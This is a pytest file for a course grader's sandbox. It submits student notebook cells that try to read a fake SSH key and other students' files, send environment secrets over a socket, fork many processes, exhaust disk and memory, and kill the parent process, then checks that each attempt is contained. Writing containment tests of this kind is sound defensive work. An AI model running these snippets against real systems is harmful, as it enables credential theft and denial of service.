"""Attacks on the grader, graded as real submissions by `python -m coursekit grade
--sandbox required` (issue 26): each one is contained by the OS sandbox (coursekit/bwrap.py,
coursekit/confine.py) with a clear message in that student's record, and the other
students' grades are unaffected. The same class graded with `--sandbox off` shows that
the attacks are real: there, they work.

The grader runs with a fake HOME holding a fake SSH key, secrets in its environment and a
listener on the loopback (a thread of this test process) that records what reaches it.

Skipped, with the reason, only where bubblewrap cannot run; under CI=true on Linux that
is a failure (`.ci/run` and the test workflow install bubblewrap).
"""
import json
import os
import socket
import subprocess
import sys
import threading

import pytest
from fakes import code
from nbformat.v4 import new_notebook

from coursekit import bwrap, generate, notebook

pytestmark = pytest.mark.slow

SECRET = "fake-secret-b8c1e07d"  # the value of every secret of the grader's
KEY = "-----BEGIN OPENSSH PRIVATE KEY----- fake-key-5a1f"
GUARD_OFF = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def seminar():
    """01_attack: task 'attack' (the cell each attacker replaces), then task 'after'."""
    nb = new_notebook(cells=[
        code("setup", "import os\nSCALE = 2"),
        code("answer-attack", "def attack():\n    ### BEGIN SOLUTION\n    return SCALE\n"
                              "    ### END SOLUTION\n"),
        code("test-attack", "assert attack() == 2, 'attack() should return 2'", task="attack"),
        code("answer-after", "def after():\n    ### BEGIN SOLUTION\n    return 3\n"
                             "    ### END SOLUTION\n"),
        code("test-after", "assert after() == 3", task="after"),
    ])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    return nb


def attacks(paths: dict) -> dict:
    """student -> (source of their answer-attack cell, the message's start when contained).
    Each raises ATTACK SUCCEEDED when the attack got through."""
    p = {k: repr(str(v)) for k, v in paths.items()}
    return {
        "reads_ssh_key": (f"key = open({p['key']}).read()\n"
                          "raise RuntimeError('ATTACK SUCCEEDED: ' + key)\n",
                          "FileNotFoundError: [Errno 2] No such file or directory"),
        "reads_outside_file": (f"text = open({p['outside']}).read()\n"
                               "raise RuntimeError('ATTACK SUCCEEDED: ' + text)\n",
                               "FileNotFoundError: [Errno 2] No such file or directory"),
        "prints_env": ("seen = sorted(v for k, v in os.environ.items() if "
                       f"{SECRET!r} in v or '.ssh' in v or {p['home']} in v)\n"
                       "raise RuntimeError(f'ATTACK SUCCEEDED: {seen}' if seen else "
                       "'no secret in the environment')\n",
                       "RuntimeError: no secret in the environment"),
        "sends_env": ("import socket, json\n"
                      f"s = socket.create_connection(('127.0.0.1', {paths['port']}), timeout=5)\n"
                      "s.sendall(json.dumps(dict(os.environ)).encode())\n"
                      "raise RuntimeError('ATTACK SUCCEEDED: sent')\n",
                      "ConnectionRefusedError: [Errno 111] Connection refused"),
        "opens_outside": ("import socket\n"
                          "s = socket.create_connection(('192.0.2.1', 80), timeout=5)\n"
                          "raise RuntimeError('ATTACK SUCCEEDED: connected')\n",
                          "OSError: [Errno 101] Network is unreachable"),
        "reads_other_student": (GUARD_OFF + f"fd = libc.open({p['other']}.encode(), 0)\n"
                                "if fd < 0:\n    e = ctypes.get_errno()\n"
                                "    raise OSError(e, os.strerror(e))\n"
                                "raise RuntimeError('ATTACK SUCCEEDED: opened')\n",
                                "FileNotFoundError: [Errno 2] No such file or directory"),
        "reads_solutions_by_ctypes": (GUARD_OFF + f"fd = libc.open({p['solutions']}.encode(), 0)\n"
                                      "if fd < 0:\n    e = ctypes.get_errno()\n"
                                      "    raise OSError(e, os.strerror(e))\n"
                                      "raise RuntimeError('ATTACK SUCCEEDED: opened')\n",
                                      "FileNotFoundError: [Errno 2] No such file or directory"),
        "reads_class_by_dir_fd": ("root = os.open('/', os.O_RDONLY)\n"
                                  f"fd = os.open({p['other']}.lstrip('/'), os.O_RDONLY, "
                                  "dir_fd=root)\n"
                                  "raise RuntimeError('ATTACK SUCCEEDED: ' + "
                                  "os.read(fd, 200).decode())\n",
                                  "FileNotFoundError: [Errno 2] No such file or directory"),
        "runs_a_copied_solution": (f"src = open({p['copy']}).read()\n"
                                   "cells = __import__('json').loads(src)['cells']\n"
                                   "exec(''.join(cells[1]['source']))\n"
                                   "raise RuntimeError('ATTACK SUCCEEDED: ran the solution')\n",
                                   "FileNotFoundError: [Errno 2] No such file or directory"),
        "writes_outside": (f"open({p['planted']}, 'w').write('planted')\n"
                           "raise RuntimeError('ATTACK SUCCEEDED: written')\n",
                           "FileNotFoundError: [Errno 2] No such file or directory"),
        "writes_anywhere": ("mine = os.path.dirname(os.path.dirname(os.getcwd()))\n"
                            "found = []\n"
                            "for line in open('/proc/self/mounts'):\n"
                            "    point, options = line.split()[1], line.split()[3]\n"
                            "    if 'rw' not in options.split(',') or point.startswith("
                            "('/proc', '/sys', mine)):\n        continue\n"
                            "    for root, dirs, files in os.walk(point):\n"
                            "        if os.access(root, os.W_OK):\n"
                            "            found.append(root)\n"
                            "raise RuntimeError(f'ATTACK SUCCEEDED: {found}' if found else "
                            "'nothing writable outside the scratch folder')\n",
                            "RuntimeError: nothing writable outside the scratch folder"),
        "forks_many": ("pids = []\nfor _ in range(50):\n    pid = os.fork()\n"
                       "    if pid == 0:\n        os._exit(0)\n    pids.append(pid)\n"
                       "raise RuntimeError(f'ATTACK SUCCEEDED: {len(pids)} processes')\n",
                       "BlockingIOError: [Errno 11] Resource temporarily unavailable"),
        "forks_by_ctypes": (GUARD_OFF + "pid = libc.fork()\nif pid == 0:\n    os._exit(0)\n"
                            "if pid < 0:\n    e = ctypes.get_errno()\n"
                            "    raise OSError(e, os.strerror(e))\n"
                            "raise RuntimeError('ATTACK SUCCEEDED: forked')\n",
                            "BlockingIOError: [Errno 11] Resource temporarily unavailable"),
        "fills_disk": ("with open('fill', 'wb') as f:\n    for _ in range(4096):\n"
                       "        f.write(b'x' * 2**20)\n"
                       "raise RuntimeError('ATTACK SUCCEEDED: 4 GB written')\n",
                       "OSError: [Errno 28] No space left on device"),
        "fills_shared_memory": ("import mmap\nm = mmap.mmap(-1, 2**30)\nm[0] = 1\n"
                                "raise RuntimeError('ATTACK SUCCEEDED: 1 GB mapped')\n",
                                "OSError: [Errno 12] Cannot allocate memory"),
        "fills_memory": ("big = bytearray(50 * 2**30)\n"
                         "raise RuntimeError('ATTACK SUCCEEDED: 50 GB')\n", "MemoryError"),
        "kills_its_parent": ("import signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                             "os.kill(1, signal.SIGKILL)\n"
                             "raise RuntimeError(f'parent {os.getppid()} survived')\n",
                             "RuntimeError: parent 1 survived"),
    }


# attacks that are harmless to try without the sandbox, and succeed there (the
# environment is an allowlist with or without it: prints_env is contained either way; a
# fork by ctypes of a kernel's threads can leave a child waiting forever for a lock)
UNSANDBOXED = ("reads_ssh_key", "reads_outside_file", "sends_env", "reads_other_student",
               "reads_solutions_by_ctypes", "reads_class_by_dir_fd", "runs_a_copied_solution",
               "writes_outside", "forks_many", "fills_shared_memory")


class Listener:
    """A TCP listener on the loopback that keeps whatever reaches it."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port, self.received, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    while chunk := conn.recv(65536):
                        data += chunk
                except OSError:
                    pass
                self.received.append(data.decode(errors="replace"))

    def close(self):
        self.stop = True
        self.thread.join(5)
        self.sock.close()


def grade(folder, solutions, out, env, *extra):
    done = subprocess.run(
        [sys.executable, "-m", "coursekit", "grade", str(folder), "--solutions", str(solutions),
         "--out", str(out), "--jobs", "2", "--timeout", "60", "--disk-mb", "32", *extra],
        cwd=notebook.REPO, env=env, capture_output=True, text=True, timeout=1200)
    assert done.returncode == 0, done.stderr[-3000:]
    text = (out / "grades.json").read_text()
    return json.loads(text), text, done


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    why = bwrap.available()
    if why:
        if os.environ.get("CI") == "true" and sys.platform.startswith("linux"):
            pytest.fail(f"CI on Linux must run the attack tests in the OS sandbox, but {why}")
        pytest.skip(f"the OS sandbox cannot run here: {why}")
    tmp = tmp_path_factory.mktemp("attacks")
    home = tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    (tmp / "outside.txt").write_text(f"outside the view {SECRET}")
    sols, elsewhere = tmp / "solutions", tmp / "elsewhere"
    sol = seminar()
    notebook.write(sol, sols / "01_attack.ipynb")
    notebook.write(sol, elsewhere / "copy_of_01_attack.ipynb")  # a second checkout's copy
    listener = Listener()
    folder = tmp / "class"
    paths = {"key": home / ".ssh" / "id_rsa", "outside": tmp / "outside.txt", "home": home,
             "port": listener.port, "other": folder / "good" / "01_attack.ipynb",
             "solutions": notebook.REPO / "solutions" / "01_linear_regression.ipynb",
             "copy": elsewhere / "copy_of_01_attack.ipynb", "planted": tmp / "planted.txt"}
    cases = attacks(paths)
    seminar_nb = generate.make_seminar(sol)

    def submission(source):
        nb = generate.make_seminar(sol)
        for cell in nb.cells:
            if cell.get("id") == "answer-attack":
                cell.source = source
            elif cell.get("id") == "answer-after":
                cell.source = "def after():\n    return 3\n"
        return nb

    notebook.write(submission("def attack():\n    return SCALE\n"),
                   folder / "good" / "01_attack.ipynb")
    notebook.write(seminar_nb, folder / "blank" / "01_attack.ipynb")
    for student, (source, _) in cases.items():
        notebook.write(submission(source), folder / student / "01_attack.ipynb")
    env = {k: v for k, v in os.environ.items() if k in ("PATH", "LANG", "LC_ALL", "VIRTUAL_ENV")}
    env.update(HOME=str(home), GRADER_SECRET_TOKEN=SECRET, AWS_SECRET_ACCESS_KEY=SECRET,
               GITHUB_TOKEN=SECRET, SSH_AUTH_SOCK=str(home / ".ssh" / "agent.sock"))
    try:
        warm = grade(folder, sols, tmp / "warm", env, "--sandbox", "required")
        received_boxed = list(listener.received)
        cold = grade(folder, sols, tmp / "cold", env, "--sandbox", "required", "--cold")
        planted_boxed = paths["planted"].exists()
        received_boxed += listener.received[len(received_boxed):]
        students = [a for s in UNSANDBOXED for a in ("--student", s)]
        bare = grade(folder, sols, tmp / "bare", env, "--sandbox", "off", *students)
    finally:
        listener.close()
    return {"cases": cases, "warm": warm, "cold": cold, "bare": bare,
            "received": received_boxed, "received_bare": listener.received,
            "planted": planted_boxed, "planted_bare": paths["planted"].exists()}


def tasks(rec):
    return {t["id"]: t for t in rec["tasks"]}


@pytest.mark.parametrize("kernels", ["warm", "cold"])
def test_every_attack_is_contained_with_a_clear_message(attacked, kernels):
    book, text, done = attacked[kernels]
    problems = []
    for student, (_, expected) in attacked["cases"].items():
        rec = book[student]["01_attack"]
        t = tasks(rec)
        attack = t["attack"]
        if not (attack["status"] == "failed" and attack["message"].startswith(expected)
                and "in your cell 'answer-attack'" in attack["message"]):
            problems.append(f"{student}: {attack['status']}: {attack['message']}")
        if t["after"]["status"] != "passed" or rec["sandbox"] != "bubblewrap":
            problems.append(f"{student}: the next task: {t['after']}, {rec['sandbox']}")
    assert not problems, "\n".join(problems)
    assert "ATTACK SUCCEEDED" not in text
    for secret in (SECRET, KEY, "fake-key"):
        assert secret not in text and secret not in done.stdout + done.stderr
    assert "WITHOUT the OS sandbox" not in done.stdout + done.stderr


@pytest.mark.parametrize("kernels", ["warm", "cold"])
def test_other_students_are_graded_as_ever(attacked, kernels):
    book = attacked[kernels][0]
    good, blank = book["good"]["01_attack"], book["blank"]["01_attack"]
    assert good["points"] == good["max_points"] == 2 and good["sandbox"] == "bubblewrap"
    assert blank["points"] == 0 and {t["status"] for t in blank["tasks"]} == {"failed"}


def test_nothing_reached_the_host(attacked):
    assert attacked["received"] == []  # the loopback listener heard nothing
    assert not attacked["planted"]  # no file written outside the scratch folder


def test_messages_say_what_the_grader_allows(attacked):
    t = {s: tasks(attacked["warm"][0][s]["01_attack"])["attack"]["message"]
         for s in ("fills_disk", "forks_many", "fills_shared_memory", "fills_memory")}
    assert t["fills_disk"].endswith("[the grader allows 32 MB of files per notebook]")
    assert t["forks_many"].endswith("[the grader allows no new processes]")
    assert t["fills_shared_memory"].endswith("[the grader allows 3072 MB per notebook]")
    assert t["fills_memory"].endswith("[the grader allows 3072 MB per notebook]")


def test_warm_and_cold_sandboxes_give_the_same_records(attacked):
    assert attacked["warm"][0] == attacked["cold"][0]


def test_without_the_sandbox_the_attacks_work(attacked):
    """The attacks above are real: graded with --sandbox off (the guard only), each of
    these gets through, so the tests above can fail."""
    book, text, done = attacked["bare"]
    assert "WARNING: grading WITHOUT the OS sandbox: turned off (--sandbox off)" in done.stderr
    assert "WARNING: " in done.stdout.splitlines()[-3]  # the table says so too
    got = {s: tasks(book[s]["01_attack"])["attack"]["message"] for s in UNSANDBOXED
           if s != "sends_env"}
    missed = {s: m for s, m in got.items() if "ATTACK SUCCEEDED" not in m}
    assert not missed, missed
    assert KEY in text and all(rec["sandbox"] == "none" for r in book.values()
                               for rec in r.values())
    sent = [json.loads(data) for data in attacked["received_bare"]]  # the kernel's environment
    assert sent and not any(SECRET in v for env in sent for v in env.values())
    assert attacked["planted_bare"]
